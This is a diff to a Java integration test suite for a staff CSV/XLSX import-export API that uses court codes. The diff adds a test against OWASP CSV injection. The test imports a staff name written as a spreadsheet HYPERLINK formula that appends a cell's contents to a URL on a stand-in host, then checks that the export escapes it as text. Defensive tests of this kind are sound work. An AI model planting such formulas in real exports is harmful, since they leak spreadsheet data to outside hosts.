@@ -107,7 +107,7 @@ class OrganizationImportIntegrationTests {
     void exportsRoundTripAsCsvAndXlsx() {
         Http.Response csv = http().get("/api/v1/exports/staff.csv?court=" + Http.encode("吉0102"), ADMIN, QuanzeIntegrationTest.ADMIN_PASSWORD);
         assertThat(csv.status()).isEqualTo(200);
-        assertThat(csv.body()).startsWith("staff_no,name,court_code,department,role,posts,quota_from,quota_to,team");
+        assertThat(csv.body()).startsWith("\uFEFFstaff_no,name,court_code,department,role,posts,quota_from,quota_to,team");
         Http.Response reimported = post("/api/v1/imports/staff", csv.body());
         assertThat(reimported.body()).contains("\"created\":0").contains("\"updated\":0");
 
@@ -117,6 +117,19 @@ class OrganizationImportIntegrationTests {
                 QuanzeIntegrationTest.ADMIN_PASSWORD);
         assertThat(fromXlsx.status()).isEqualTo(200);
         assertThat(fromXlsx.body()).contains("\"created\":0").contains("\"updated\":0");
+    }
+
+    /** OWASP CSV Injection (issue 10 item 5): a name imported as a formula is exported as text, never as a formula. */
+    @Test
+    void aStaffNameThatIsAFormulaIsExportedAsText() {
+        String formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")";
+        String staff = "staff_no,name,court_code,department,role\nCSV-F1,\"" + formula.replace("\"", "\"\"")
+                + "\",吉0102,民一庭,书记员\n";
+        assertThat(post("/api/v1/imports/staff", staff).status()).isEqualTo(200);
+        Http.Response csv = http().get("/api/v1/exports/staff.csv?court=" + Http.encode("吉0102"), ADMIN, QuanzeIntegrationTest.ADMIN_PASSWORD);
+        String row = csv.body().lines().filter(l -> l.startsWith("CSV-F1,")).findFirst().orElseThrow();
+        assertThat(row).startsWith("CSV-F1,\"'=HYPERLINK(");
+        assertThat(csv.body()).doesNotContain(",\"=HYPERLINK").doesNotContain(",=HYPERLINK");
     }
 
     @Test
